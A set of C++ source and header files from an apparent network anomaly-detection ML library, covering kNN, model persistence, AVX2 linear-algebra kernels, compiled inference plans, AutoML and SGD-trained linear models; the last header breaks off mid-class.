// full distance matrix to the training set in one dense::sq_dist_batch call
// (a GEMM via the ||x||^2 + ||y||^2 - 2 x.y expansion, with the training-row
// norms precomputed at fit time), then per-row partial sorts pick the k
// nearest labels.
#pragma once

#include "ml/model.h"

namespace lumen::ml {

struct KnnConfig {
  size_t k = 5;
  size_t max_train_rows = 4000;  // reservoir-capped training set
  uint64_t seed = 13;
};

class Knn : public Model {
 public:
  explicit Knn(KnnConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "kNN"; }
  bool is_supervised() const override { return true; }

  /// Pre-PR reference: per-row scalar distance scan. Kept for the
  /// batched-vs-per-row equivalence tests and the BENCH_ml baseline.
  std::vector<double> score_perrow(const FeatureTable& X) const;

 private:
  KnnConfig cfg_;
  FeatureTable train_;
  std::vector<double> train_norms_;  // ||t||^2 per training row
};

}  // namespace lumen::ml
