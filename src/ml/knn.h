// k-nearest-neighbour classifier (brute force, Euclidean, with an optional
// cap on stored training rows for tractability on large tables).
#pragma once

#include "ml/model.h"

namespace lumen::ml {

struct KnnConfig {
  size_t k = 5;
  size_t max_train_rows = 4000;  // reservoir-capped training set
  uint64_t seed = 13;
};

class Knn : public Model {
 public:
  explicit Knn(KnnConfig cfg = {}) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override { return "kNN"; }
  bool is_supervised() const override { return true; }

 private:
  KnnConfig cfg_;
  FeatureTable train_;
};

}  // namespace lumen::ml
