// Model persistence for the deployment path: train in the lab, save, load
// at the gateway. Covers the supervised models the registry's top performers
// use (decision tree, random forest, Gaussian NB) plus the feature
// transforms, in a small self-describing text format.
//
// Format: line-oriented; first line is "lumen-model <type> <version>".
#pragma once

#include <iosfwd>
#include <string>

#include "common/result.h"
#include "features/transform.h"
#include "ml/bayes.h"
#include "ml/forest.h"
#include "ml/tree.h"

namespace lumen::ml {

// ---- streams ----
Result<void> save_model(const DecisionTree& m, std::ostream& out);
Result<void> save_model(const RandomForest& m, std::ostream& out);
Result<void> save_model(const GaussianNB& m, std::ostream& out);
Result<void> save_normalizer(const features::Normalizer& n, std::ostream& out);

Result<DecisionTree> load_tree(std::istream& in);
Result<RandomForest> load_forest(std::istream& in);
Result<GaussianNB> load_nb(std::istream& in);
Result<features::Normalizer> load_normalizer(std::istream& in);

// ---- files ----
Result<void> save_model_file(const RandomForest& m, const std::string& path);
Result<RandomForest> load_forest_file(const std::string& path);

/// Peek at the model type stored in a stream ("tree", "forest", "nb",
/// "normalizer"); leaves the stream positioned after the header.
Result<std::string> read_model_header(std::istream& in);

}  // namespace lumen::ml
