// AVX2/FMA dense kernels. This is the only translation unit compiled with
// -mavx2 -mfma (see LUMEN_NATIVE_SIMD in src/ml/CMakeLists.txt); it is
// selected at runtime only after simd::cpu_has_avx2_fma() confirms the host
// executes these instructions, so nothing here may leak into a header.
//
// Accumulation strategy: 4-wide FMA lanes with a horizontal reduction at
// the end, so sums are reassociated relative to the scalar path (documented
// tolerance in dense.h). exp uses the Cephes/netlib polynomial-plus-Pade
// algorithm, accurate to ~1 ulp over the clamped range.
#include "ml/dense.h"

#ifdef LUMEN_DENSE_HAVE_AVX2

#include <immintrin.h>

#include <algorithm>
#include <cmath>
#include <cstddef>

namespace lumen::ml::dense {

namespace {

inline double hsum(__m256d v) {
  const __m128d lo = _mm256_castpd256_pd128(v);
  const __m128d hi = _mm256_extractf128_pd(v, 1);
  const __m128d s = _mm_add_pd(lo, hi);
  return _mm_cvtsd_f64(_mm_add_sd(s, _mm_unpackhi_pd(s, s)));
}

// ------------------------------------------------------------- vector exp
//
// Cephes exp(double) lifted lane-wise: reduce x = n*ln2 + r, evaluate
// exp(r) = 1 + 2r / (Q(r^2) - r*P(r^2)), scale by 2^n through the exponent
// bits. Inputs must be pre-clamped to +-708 (done by the sweeps below).

inline __m256d exp4(__m256d x) {
  const __m256d log2e = _mm256_set1_pd(1.4426950408889634073599);
  const __m256d c1 = _mm256_set1_pd(6.93145751953125e-1);
  const __m256d c2 = _mm256_set1_pd(1.42860682030941723212e-6);
  const __m256d p0 = _mm256_set1_pd(1.26177193074810590878e-4);
  const __m256d p1 = _mm256_set1_pd(3.02994407707441961300e-2);
  const __m256d p2 = _mm256_set1_pd(9.99999999999999999910e-1);
  const __m256d q0 = _mm256_set1_pd(3.00198505138664455042e-6);
  const __m256d q1 = _mm256_set1_pd(2.52448340349684104192e-3);
  const __m256d q2 = _mm256_set1_pd(2.27265548208155028766e-1);
  const __m256d q3 = _mm256_set1_pd(2.00000000000000000005e0);
  const __m256d one = _mm256_set1_pd(1.0);
  const __m256d half = _mm256_set1_pd(0.5);

  // n = floor(x * log2(e) + 0.5)
  const __m256d nf = _mm256_floor_pd(
      _mm256_add_pd(_mm256_mul_pd(x, log2e), half));
  // r = x - n*ln2, split into hi/lo parts for accuracy.
  __m256d r = _mm256_fnmadd_pd(nf, c1, x);
  r = _mm256_fnmadd_pd(nf, c2, r);

  const __m256d rr = _mm256_mul_pd(r, r);
  // px = r * P(r^2)
  __m256d px = _mm256_fmadd_pd(p0, rr, p1);
  px = _mm256_fmadd_pd(px, rr, p2);
  px = _mm256_mul_pd(px, r);
  // qx = Q(r^2)
  __m256d qx = _mm256_fmadd_pd(q0, rr, q1);
  qx = _mm256_fmadd_pd(qx, rr, q2);
  qx = _mm256_fmadd_pd(qx, rr, q3);
  // exp(r) = 1 + 2*px / (qx - px)
  const __m256d e =
      _mm256_add_pd(one, _mm256_div_pd(_mm256_add_pd(px, px),
                                       _mm256_sub_pd(qx, px)));

  // Scale by 2^n: add n to the exponent field. |x| <= 708 keeps
  // n in [-1022, 1023], so the biased exponent never wraps.
  const __m128i n32 = _mm256_cvtpd_epi32(nf);
  const __m256i n64 = _mm256_cvtepi32_epi64(n32);
  const __m256i pow2 =
      _mm256_slli_epi64(_mm256_add_epi64(n64, _mm256_set1_epi64x(1023)), 52);
  return _mm256_mul_pd(e, _mm256_castsi256_pd(pow2));
}

inline __m256d clamp4(__m256d x, double lo, double hi) {
  return _mm256_max_pd(_mm256_set1_pd(lo),
                       _mm256_min_pd(_mm256_set1_pd(hi), x));
}

// ----------------------------------------------------------------- BLAS-1

double dot_k(size_t n, const double* x, const double* y) {
  __m256d acc0 = _mm256_setzero_pd();
  __m256d acc1 = _mm256_setzero_pd();
  size_t i = 0;
  for (; i + 8 <= n; i += 8) {
    acc0 = _mm256_fmadd_pd(_mm256_loadu_pd(x + i), _mm256_loadu_pd(y + i),
                           acc0);
    acc1 = _mm256_fmadd_pd(_mm256_loadu_pd(x + i + 4),
                           _mm256_loadu_pd(y + i + 4), acc1);
  }
  for (; i + 4 <= n; i += 4) {
    acc0 = _mm256_fmadd_pd(_mm256_loadu_pd(x + i), _mm256_loadu_pd(y + i),
                           acc0);
  }
  double s = hsum(_mm256_add_pd(acc0, acc1));
  for (; i < n; ++i) s += x[i] * y[i];
  return s;
}

void axpy_k(size_t n, double alpha, const double* x, double* y) {
  const __m256d va = _mm256_set1_pd(alpha);
  size_t i = 0;
  for (; i + 4 <= n; i += 4) {
    _mm256_storeu_pd(
        y + i, _mm256_fmadd_pd(va, _mm256_loadu_pd(x + i),
                               _mm256_loadu_pd(y + i)));
  }
  for (; i < n; ++i) y[i] += alpha * x[i];
}

void rot_k(size_t n, double* x, size_t incx, double* y, size_t incy, double c,
           double s) {
  if (incx == 1 && incy == 1) {
    const __m256d vc = _mm256_set1_pd(c);
    const __m256d vs = _mm256_set1_pd(s);
    size_t i = 0;
    for (; i + 4 <= n; i += 4) {
      const __m256d xv = _mm256_loadu_pd(x + i);
      const __m256d yv = _mm256_loadu_pd(y + i);
      _mm256_storeu_pd(x + i,
                       _mm256_fnmadd_pd(vs, yv, _mm256_mul_pd(vc, xv)));
      _mm256_storeu_pd(y + i, _mm256_fmadd_pd(vs, xv, _mm256_mul_pd(vc, yv)));
    }
    for (; i < n; ++i) {
      const double xv = x[i];
      const double yv = y[i];
      x[i] = c * xv - s * yv;
      y[i] = s * xv + c * yv;
    }
    return;
  }
  for (size_t i = 0; i < n; ++i) {
    double* px = x + i * incx;
    double* py = y + i * incy;
    const double xv = *px;
    const double yv = *py;
    *px = c * xv - s * yv;
    *py = s * xv + c * yv;
  }
}

// ----------------------------------------------------------------- BLAS-2

void gemv_k(size_t m, size_t n, const double* a, size_t lda, const double* x,
            const double* bias, double* y) {
  for (size_t i = 0; i < m; ++i) {
    y[i] = (bias != nullptr ? bias[i] : 0.0) + dot_k(n, a + i * lda, x);
  }
}

void gemv_t_k(size_t m, size_t n, const double* a, size_t lda,
              const double* x, double* y) {
  for (size_t j = 0; j < n; ++j) y[j] = 0.0;
  for (size_t i = 0; i < m; ++i) axpy_k(n, x[i], a + i * lda, y);
}

void ger_k(size_t m, size_t n, double alpha, const double* x, const double* y,
           double* a, size_t lda) {
  for (size_t i = 0; i < m; ++i) axpy_k(n, alpha * x[i], y, a + i * lda);
}

// ----------------------------------------------------------------- BLAS-3

// Register-blocked dot-product GEMM: C[m x n] = A * B^T. Processes 2 rows
// of A against 2 rows of B per step (4 concurrent accumulator registers)
// and blocks k so both operands stay in L1/L2 for the larger shapes.
constexpr size_t kKc = 512;   // k-panel (two panel rows ~ 8 KiB)
constexpr size_t kNc = 128;   // B rows kept hot per panel

// B^T panels up to this many doubles (16 KiB) go through the transposed
// small-matrix path below instead of the dot-product macro kernel.
constexpr size_t kSmallPanel = 2048;

// Small-matrix gemm_nt: the dot-product kernel pays a horizontal sum per
// output element, which dominates at the tiny layer sizes KitNET and the
// autoencoders use (n, k ~ 10). Transpose B once into a stack panel and
// run broadcast-FMA axpy over full C rows instead — no hsum, and the
// k-accumulation order matches the scalar reference.
void gemm_nt_small(size_t m, size_t n, size_t k, const double* a, size_t lda,
                   const double* b, size_t ldb, const double* bias,
                   double beta, double* c, size_t ldc) {
  double bt[kSmallPanel];
  for (size_t j = 0; j < n; ++j) {
    for (size_t l = 0; l < k; ++l) bt[l * n + j] = b[j * ldb + l];
  }
  for (size_t i = 0; i < m; ++i) {
    const double* ai = a + i * lda;
    double* ci = c + i * ldc;
    size_t j = 0;
    // 8-column chunks of the C row stay in two registers across the whole
    // k loop (no per-l reload/restore of C).
    for (; j + 8 <= n; j += 8) {
      __m256d acc0, acc1;
      if (beta != 0.0) {
        acc0 = _mm256_loadu_pd(ci + j);
        acc1 = _mm256_loadu_pd(ci + j + 4);
      } else if (bias != nullptr) {
        acc0 = _mm256_loadu_pd(bias + j);
        acc1 = _mm256_loadu_pd(bias + j + 4);
      } else {
        acc0 = _mm256_setzero_pd();
        acc1 = _mm256_setzero_pd();
      }
      const double* btp = bt + j;
      for (size_t l = 0; l < k; ++l) {
        const __m256d av = _mm256_set1_pd(ai[l]);
        acc0 = _mm256_fmadd_pd(av, _mm256_loadu_pd(btp + l * n), acc0);
        acc1 = _mm256_fmadd_pd(av, _mm256_loadu_pd(btp + l * n + 4), acc1);
      }
      _mm256_storeu_pd(ci + j, acc0);
      _mm256_storeu_pd(ci + j + 4, acc1);
    }
    for (; j + 4 <= n; j += 4) {
      __m256d acc;
      if (beta != 0.0) {
        acc = _mm256_loadu_pd(ci + j);
      } else if (bias != nullptr) {
        acc = _mm256_loadu_pd(bias + j);
      } else {
        acc = _mm256_setzero_pd();
      }
      const double* btp = bt + j;
      for (size_t l = 0; l < k; ++l) {
        acc = _mm256_fmadd_pd(_mm256_set1_pd(ai[l]),
                              _mm256_loadu_pd(btp + l * n), acc);
      }
      _mm256_storeu_pd(ci + j, acc);
    }
    for (; j < n; ++j) {
      double s =
          beta != 0.0 ? ci[j] : (bias != nullptr ? bias[j] : 0.0);
      for (size_t l = 0; l < k; ++l) s += ai[l] * bt[l * n + j];
      ci[j] = s;
    }
  }
}

void gemm_nt_k(size_t m, size_t n, size_t k, const double* a, size_t lda,
               const double* b, size_t ldb, const double* bias, double beta,
               double* c, size_t ldc) {
  if (n * k <= kSmallPanel) {
    gemm_nt_small(m, n, k, a, lda, b, ldb, bias, beta, c, ldc);
    return;
  }
  for (size_t l0 = 0; l0 < k || l0 == 0; l0 += kKc) {
    const size_t lk = std::min(kKc, k - l0);
    const bool first = l0 == 0;
    for (size_t j0 = 0; j0 < n; j0 += kNc) {
      const size_t jn = std::min(kNc, n - j0);
      for (size_t i = 0; i < m; ++i) {
        const double* ai = a + i * lda + l0;
        const double* ai1 = i + 1 < m ? a + (i + 1) * lda + l0 : nullptr;
        double* ci = c + i * ldc;
        double* ci1 = ai1 != nullptr ? c + (i + 1) * ldc : nullptr;
        for (size_t j = 0; j < jn; ++j) {
          const double* bj = b + (j0 + j) * ldb + l0;
          __m256d acc00 = _mm256_setzero_pd();
          __m256d acc10 = _mm256_setzero_pd();
          size_t l = 0;
          if (ai1 != nullptr) {
            for (; l + 4 <= lk; l += 4) {
              const __m256d bv = _mm256_loadu_pd(bj + l);
              acc00 = _mm256_fmadd_pd(_mm256_loadu_pd(ai + l), bv, acc00);
              acc10 = _mm256_fmadd_pd(_mm256_loadu_pd(ai1 + l), bv, acc10);
            }
          } else {
            for (; l + 4 <= lk; l += 4) {
              acc00 = _mm256_fmadd_pd(_mm256_loadu_pd(ai + l),
                                      _mm256_loadu_pd(bj + l), acc00);
            }
          }
          double s0 = hsum(acc00);
          double s1 = ai1 != nullptr ? hsum(acc10) : 0.0;
          for (; l < lk; ++l) {
            s0 += ai[l] * bj[l];
            if (ai1 != nullptr) s1 += ai1[l] * bj[l];
          }
          const size_t jj = j0 + j;
          if (first) {
            const double base =
                beta != 0.0 ? ci[jj] : (bias != nullptr ? bias[jj] : 0.0);
            ci[jj] = base + s0;
            if (ci1 != nullptr) {
              const double base1 =
                  beta != 0.0 ? ci1[jj] : (bias != nullptr ? bias[jj] : 0.0);
              ci1[jj] = base1 + s1;
            }
          } else {
            ci[jj] += s0;
            if (ci1 != nullptr) ci1[jj] += s1;
          }
        }
        if (ai1 != nullptr) ++i;  // consumed two rows of A
      }
    }
    if (k == 0) break;
  }
}

void gemm_nn_k(size_t m, size_t n, size_t k, const double* a, size_t lda,
               const double* b, size_t ldb, double beta, double* c,
               size_t ldc) {
  // axpy-based: C_i += A[i][l] * B_l, with k blocked so the active rows of
  // B stay cached across consecutive rows of A.
  for (size_t l0 = 0; l0 < k || l0 == 0; l0 += kKc) {
    const size_t lk = std::min(kKc, k - l0);
    for (size_t i = 0; i < m; ++i) {
      const double* ai = a + i * lda;
      double* ci = c + i * ldc;
      if (l0 == 0 && beta == 0.0) {
        for (size_t j = 0; j < n; ++j) ci[j] = 0.0;
      }
      for (size_t l = 0; l < lk; ++l) {
        axpy_k(n, ai[l0 + l], b + (l0 + l) * ldb, ci);
      }
    }
    if (k == 0) break;
  }
}

void gemm_tn_k(size_t m, size_t n, size_t k, double alpha, const double* a,
               size_t lda, const double* b, size_t ldb, double* c,
               size_t ldc) {
  for (size_t l = 0; l < k; ++l) {
    const double* al = a + l * lda;
    const double* bl = b + l * ldb;
    for (size_t i = 0; i < m; ++i) {
      axpy_k(n, alpha * al[i], bl, c + i * ldc);
    }
  }
}

// ------------------------------------------------------------- activations

void exp_sweep_k(size_t n, double* x) {
  size_t i = 0;
  for (; i + 4 <= n; i += 4) {
    _mm256_storeu_pd(
        x + i, exp4(clamp4(_mm256_loadu_pd(x + i), -708.0, 708.0)));
  }
  for (; i < n; ++i) x[i] = std::exp(std::clamp(x[i], -708.0, 708.0));
}

void sigmoid_k(size_t n, double* x) {
  // sigmoid(v) = 1 / (1 + exp(-v)), with the exp argument clamped to +-40,
  // past which the result saturates to 0/1 in double anyway. Instead of
  // calling exp4 (whose Pade step already divides) and dividing again,
  // fold both into one division: with exp(-v) = 2^n * (q+p)/(q-p) from the
  // same range reduction, sigmoid(v) = (q-p) / ((q-p) + 2^n*(q+p)).
  const __m256d log2e = _mm256_set1_pd(1.4426950408889634073599);
  const __m256d c1 = _mm256_set1_pd(6.93145751953125e-1);
  const __m256d c2 = _mm256_set1_pd(1.42860682030941723212e-6);
  const __m256d p0 = _mm256_set1_pd(1.26177193074810590878e-4);
  const __m256d p1 = _mm256_set1_pd(3.02994407707441961300e-2);
  const __m256d p2 = _mm256_set1_pd(9.99999999999999999910e-1);
  const __m256d q0 = _mm256_set1_pd(3.00198505138664455042e-6);
  const __m256d q1 = _mm256_set1_pd(2.52448340349684104192e-3);
  const __m256d q2 = _mm256_set1_pd(2.27265548208155028766e-1);
  const __m256d q3 = _mm256_set1_pd(2.00000000000000000005e0);
  const __m256d half = _mm256_set1_pd(0.5);
  const __m256d zero = _mm256_setzero_pd();
  size_t i = 0;
  for (; i + 4 <= n; i += 4) {
    const __m256d v = clamp4(_mm256_loadu_pd(x + i), -40.0, 40.0);
    const __m256d xn = _mm256_sub_pd(zero, v);  // exp(-v)
    const __m256d nf = _mm256_floor_pd(
        _mm256_add_pd(_mm256_mul_pd(xn, log2e), half));
    __m256d r = _mm256_fnmadd_pd(nf, c1, xn);
    r = _mm256_fnmadd_pd(nf, c2, r);
    const __m256d rr = _mm256_mul_pd(r, r);
    __m256d px = _mm256_fmadd_pd(p0, rr, p1);
    px = _mm256_fmadd_pd(px, rr, p2);
    px = _mm256_mul_pd(px, r);
    __m256d qx = _mm256_fmadd_pd(q0, rr, q1);
    qx = _mm256_fmadd_pd(qx, rr, q2);
    qx = _mm256_fmadd_pd(qx, rr, q3);
    const __m256d den = _mm256_sub_pd(qx, px);  // q - p
    const __m256d num = _mm256_add_pd(qx, px);  // q + p
    // 2^n via the exponent field; |v| <= 40 keeps n in [-58, 58].
    const __m128i n32 = _mm256_cvtpd_epi32(nf);
    const __m256i n64 = _mm256_cvtepi32_epi64(n32);
    const __m256d pow2 = _mm256_castsi256_pd(
        _mm256_slli_epi64(_mm256_add_epi64(n64, _mm256_set1_epi64x(1023)),
                          52));
    const __m256d scaled = _mm256_mul_pd(num, pow2);  // (q+p)*2^n
    _mm256_storeu_pd(
        x + i, _mm256_div_pd(den, _mm256_add_pd(den, scaled)));
  }
  for (; i < n; ++i) {
    x[i] = 1.0 / (1.0 + std::exp(-std::clamp(x[i], -40.0, 40.0)));
  }
}

void relu_k(size_t n, double* x) {
  const __m256d zero = _mm256_setzero_pd();
  size_t i = 0;
  for (; i + 4 <= n; i += 4) {
    _mm256_storeu_pd(x + i, _mm256_max_pd(zero, _mm256_loadu_pd(x + i)));
  }
  for (; i < n; ++i) x[i] = std::max(0.0, x[i]);
}

// ------------------------------------------------------------ packed panel

// Fused packed-layer kernel: wt is the pre-transposed k x np panel with np
// a multiple of 4, so every column chunk is a full vector. C-row chunks
// live in registers across the whole k loop (no per-l reload), and each
// lane accumulates bias + sequential-k FMAs — a fixed per-element order,
// so row i's result is independent of the batch size m (the packed_apply
// contract; FMA contraction makes it differ from scalar by ulps only).
void packed_apply_k(size_t m, size_t np, size_t k, const double* x,
                    size_t ldx, const double* wt, const double* bias,
                    double* y, size_t ldy) {
  for (size_t i = 0; i < m; ++i) {
    const double* xi = x + i * ldx;
    double* yi = y + i * ldy;
    size_t j = 0;
    for (; j + 8 <= np; j += 8) {
      __m256d acc0 = _mm256_loadu_pd(bias + j);
      __m256d acc1 = _mm256_loadu_pd(bias + j + 4);
      const double* wp = wt + j;
      for (size_t l = 0; l < k; ++l) {
        const __m256d xv = _mm256_set1_pd(xi[l]);
        acc0 = _mm256_fmadd_pd(xv, _mm256_loadu_pd(wp + l * np), acc0);
        acc1 = _mm256_fmadd_pd(xv, _mm256_loadu_pd(wp + l * np + 4), acc1);
      }
      _mm256_storeu_pd(yi + j, acc0);
      _mm256_storeu_pd(yi + j + 4, acc1);
    }
    for (; j < np; j += 4) {
      __m256d acc = _mm256_loadu_pd(bias + j);
      const double* wp = wt + j;
      for (size_t l = 0; l < k; ++l) {
        acc = _mm256_fmadd_pd(_mm256_set1_pd(xi[l]),
                              _mm256_loadu_pd(wp + l * np), acc);
      }
      _mm256_storeu_pd(yi + j, acc);
    }
  }
}

// --------------------------------------------------------------- distances

void sq_dist_k(size_t rows, size_t n, const double* x, const double* y,
               size_t ldy, double* out) {
  for (size_t r = 0; r < rows; ++r) {
    const double* yr = y + r * ldy;
    __m256d acc = _mm256_setzero_pd();
    size_t i = 0;
    for (; i + 4 <= n; i += 4) {
      const __m256d d = _mm256_sub_pd(_mm256_loadu_pd(x + i),
                                      _mm256_loadu_pd(yr + i));
      acc = _mm256_fmadd_pd(d, d, acc);
    }
    double s = hsum(acc);
    for (; i < n; ++i) {
      const double diff = x[i] - yr[i];
      s += diff * diff;
    }
    out[r] = s;
  }
}

}  // namespace

const Kernels& avx2_kernels_impl() {
  static const Kernels k = {
      dot_k,    axpy_k,    rot_k,    gemv_k,      gemv_t_k, ger_k,
      gemm_nt_k, gemm_nn_k, gemm_tn_k, sigmoid_k, relu_k,   exp_sweep_k,
      sq_dist_k, packed_apply_k,
  };
  return k;
}

}  // namespace lumen::ml::dense

#endif  // LUMEN_DENSE_HAVE_AVX2
