// Compiled inference: lower a fitted model into an immutable, cache-optimized
// scoring plan — the deployable artifact the live path scores through.
//
// compile() walks the fitted model's parameters once and emits a Plan whose
// weights live in a single contiguous arena laid out in scoring order:
//  * KitNET / AutoEncoder — fused single-pass encode→decode→RMSE over packed
//    panels, with the per-cluster gather and the min-max normalization folded
//    into the panel staging (gather indices + precomputed reciprocal ranges
//    sit next to the weights they feed). Three precisions:
//      - f64: bit-identical to the reference score_rows path (same kernels,
//        same accumulation order) — the drop-in deployment default;
//      - f32: float panels driven by 8-lane AVX2 kernels, ~2x the f64
//        throughput, score divergence bounded and gated (see docs);
//      - i8: int8 weights with per-output-channel scales calibrated at
//        compile time (activations are in [0,1] by construction, so the
//        activation scale is fixed at 127).
//  * Forest / Tree — flattened SoA node tables (feature / threshold / child
//    offsets / leaf value in parallel arrays, leaves flagged by feature -1)
//    walked leaf-terminated; results bit-identical to predict_row.
//  * GMM / OCSVM / LinearSVM / LogReg / LinearOCSVM — the already-folded
//    scoring forms (log-density panels, compact support vectors, the
//    standardizer folded into the weight vector) copied into the arena and
//    driven by the same dense kernels, bit-identical to the batched score().
//  * kNN — compacted training matrix + squared row norms scored with the
//    blocked GEMM-expansion scan (identical results to Knn::score).
//
// Plans are immutable after compile() and safe to share across consumer
// threads: score_rows is const and all mutable state lives in the caller's
// Scratch. Deployment: wrap() adapts a Plan to the Model interface, and
// OnlineKitsune::compile() re-routes the packet hot path through a plan —
// IngestRuntime::deploy() then hot-swaps it like any other scorer.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "common/result.h"
#include "ml/model.h"

namespace lumen::ml {
class KitNet;
class AutoEncoderCore;
}  // namespace lumen::ml

namespace lumen::ml::compiled {

enum class Precision : uint8_t { kF64, kF32, kI8 };
const char* precision_name(Precision p);

struct Options {
  /// Requested arithmetic for the neural plans (KitNET / AutoEncoder).
  /// Models whose compiled form is exact by construction (forest, tree,
  /// GMM, SVMs, kNN) ignore this and always report kF64.
  Precision precision = Precision::kF64;
};

/// Reusable buffers for allocation-free plan scoring. One scratch may be
/// shared across plans of different shapes (buffers are resized); it must
/// not be shared across threads.
struct Scratch {
  std::vector<double> a, b, c, d;
  std::vector<float> fa, fb, fc, fd, fx;
  std::vector<int32_t> ia;
  std::vector<uint8_t> qa, qb;
  std::vector<std::pair<double, int>> nn;
};

/// An immutable compiled scoring plan. score_rows follows the micro-batch
/// contract of the reference paths: out[i] = score of row i of the m x dim()
/// row-major block x (row stride ldx >= dim()), and row i's result does not
/// depend on how the stream is chopped into batches.
class Plan {
 public:
  virtual ~Plan() = default;
  Plan(const Plan&) = delete;
  Plan& operator=(const Plan&) = delete;

  virtual void score_rows(const double* x, size_t m, size_t ldx, double* out,
                          Scratch& scratch) const = 0;

  /// Source model family: "kitnet", "autoencoder", "forest", "tree", "gmm",
  /// "ocsvm", "linear_ocsvm", "linear", "knn".
  virtual const char* kind() const = 0;

  /// Minimum row width score_rows reads. For most plans this is the source
  /// model's training dimensionality; for tree/forest plans it is the
  /// highest feature index any split references + 1, which can be narrower
  /// than the training table. Rows may be wider (ldx carries the stride).
  size_t dim() const { return dim_; }
  Precision precision() const { return precision_; }
  /// Alert threshold carried over from the source model (0 when the source
  /// had none — supervised models alert at 0.5 like their predict()).
  double threshold() const { return threshold_; }
  /// Size of the compiled weight arena — what deploying this plan ships.
  size_t weight_bytes() const { return weight_bytes_; }
  /// Whether the source model was supervised (steers wrap()'s adapter).
  bool supervised() const { return supervised_; }

 protected:
  Plan() = default;
  size_t dim_ = 0;
  Precision precision_ = Precision::kF64;
  double threshold_ = 0.0;
  size_t weight_bytes_ = 0;
  bool supervised_ = false;
};

using PlanPtr = std::shared_ptr<const Plan>;

/// Lower a fitted model into a plan. Errors on model types without a
/// compiled form and on unfitted models.
Result<PlanPtr> compile(const Model& model, const Options& opts = {});

/// Typed entry points for callers that hold the concrete detector rather
/// than a Model (OnlineKitsune holds a KitNet directly).
Result<PlanPtr> compile_kitnet(const KitNet& net, const Options& opts = {});
Result<PlanPtr> compile_autoencoder(const AutoEncoderCore& ae,
                                    double threshold,
                                    const Options& opts = {});

/// Adapt a plan back to the Model interface so the batch framework and the
/// streaming predict operator can deploy compiled plans anywhere a model
/// goes. score() chunks the table through score_rows in kScoreBlock blocks;
/// predict() thresholds at the plan's carried threshold.
ModelPtr wrap(PlanPtr plan, std::string display_name);

// ------------------------------------------------------- float32 kernels
//
// The f32 counterparts of the dense kernels the neural plans ride. Same
// dispatch policy as lumen::ml::dense: the backend resolves off
// dense::active_backend(), so LUMEN_SIMD=off and dense::ScopedBackend
// steer these too. Panels pad output columns to kPackPadF32 so the AVX2
// kernel never runs a scalar column tail.
constexpr size_t kPackPadF32 = 8;

struct KernelsF32 {
  /// y[m x n_pad] = x[m x k] * wt[k x n_pad] + bias[n_pad]; same
  /// batch-size-independent accumulation contract as dense::packed_apply.
  void (*packed_apply)(size_t m, size_t n_pad, size_t k, const float* x,
                       size_t ldx, const float* wt, const float* bias,
                       float* y, size_t ldy);
  /// x[i] = 1 / (1 + exp(-x[i]))
  void (*sigmoid_sweep)(size_t n, float* x);
};

const KernelsF32& scalar_kernels_f32();
const KernelsF32* avx2_kernels_f32();
/// The table matching dense::active_backend() right now.
const KernelsF32& active_kernels_f32();

}  // namespace lumen::ml::compiled
