// AutoML: holdout-validated grid search over the supervised model zoo
// (the nPrint paper delegates model choice to an AutoML engine; this is our
// native equivalent). The winning candidate is refit on all training data.
#pragma once

#include <functional>

#include "ml/model.h"

namespace lumen::ml {

struct AutoMlConfig {
  double holdout_fraction = 0.25;
  /// Candidates tried; empty = the default grid (RF variants, DT, NB,
  /// logistic regression).
  std::vector<std::function<ModelPtr()>> candidates;
  uint64_t seed = 59;
};

class AutoMl : public Model {
 public:
  explicit AutoMl(AutoMlConfig cfg = {});

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  std::string name() const override;
  bool is_supervised() const override { return true; }

  const std::string& winner() const { return winner_name_; }
  double winner_validation_f1() const { return winner_f1_; }

 private:
  AutoMlConfig cfg_;
  ModelPtr best_;
  std::string winner_name_ = "none";
  double winner_f1_ = 0.0;
};

/// The default candidate grid used when AutoMlConfig.candidates is empty.
std::vector<std::function<ModelPtr()>> default_automl_grid();

}  // namespace lumen::ml
