// Linear models trained by SGD:
//  * LinearSVM        — hinge loss + L2, with internal feature standardization
//                       and class balancing (ML-DDoS ensemble member).
//  * LogisticRegression — log loss + L2 (AutoML candidate).
#pragma once

#include "ml/model.h"

namespace lumen::ml {

struct LinearConfig {
  double lr = 0.05;
  double l2 = 1e-4;
  size_t epochs = 30;
  uint64_t seed = 17;
};

/// Shared SGD machinery; subclasses define the per-example gradient.
class LinearModel : public Model {
 public:
  explicit LinearModel(LinearConfig cfg) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
  std::vector<double> score(const FeatureTable& X) const override;
  std::vector<int> predict(const FeatureTable& X) const override;
  bool is_supervised() const override { return true; }

  /// Pre-PR reference: per-row standardize + margin loop. Kept for the
  /// batched-vs-per-row equivalence tests.
  std::vector<double> score_perrow(const FeatureTable& X) const;

  /// Fitted weights + standardizer for the model compiler (ml/compiled.*),
  /// which folds them into an effective hyperplane at compile time exactly
  /// as the batched score() does per call.
  struct WeightsView {
    size_t dim = 0;
    const double* w = nullptr;       // dim (null before fit)
    const double* mean = nullptr;    // dim
    const double* inv_sd = nullptr;  // dim
    double b = 0.0;
  };
  WeightsView weights_view() const {
    if (w_.empty()) return {};
    return {w_.size(), w_.data(), mean_.data(), inv_sd_.data(), b_};
  }

 protected:
  /// Raw decision value w.x + b for a standardized row.
  double margin(std::span<const double> x) const;
  /// Loss-specific weight update for one example. y in {-1, +1}.
  virtual void update(std::span<const double> x, double y, double lr,
                      double class_weight) = 0;
  /// Map margin to a [0,1] score.
  virtual double to_score(double margin_value) const = 0;

  LinearConfig cfg_;
  std::vector<double> w_;
  double b_ = 0.0;
  std::vector<double> mean_;
  std::vector<double> inv_sd_;

 private:
  void standardize_fit(const FeatureTable& X);
  std::vector<double> standardized(std::span<const double> x) const;
  friend class LinearSvm;
  friend class LogisticRegression;
};

class LinearSvm : public LinearModel {
 public:
  explicit LinearSvm(LinearConfig cfg = {}) : LinearModel(cfg) {}
  std::string name() const override { return "LinearSVM"; }

 protected:
  void update(std::span<const double> x, double y, double lr,
              double class_weight) override;
  double to_score(double m) const override;
};

class LogisticRegression : public LinearModel {
 public:
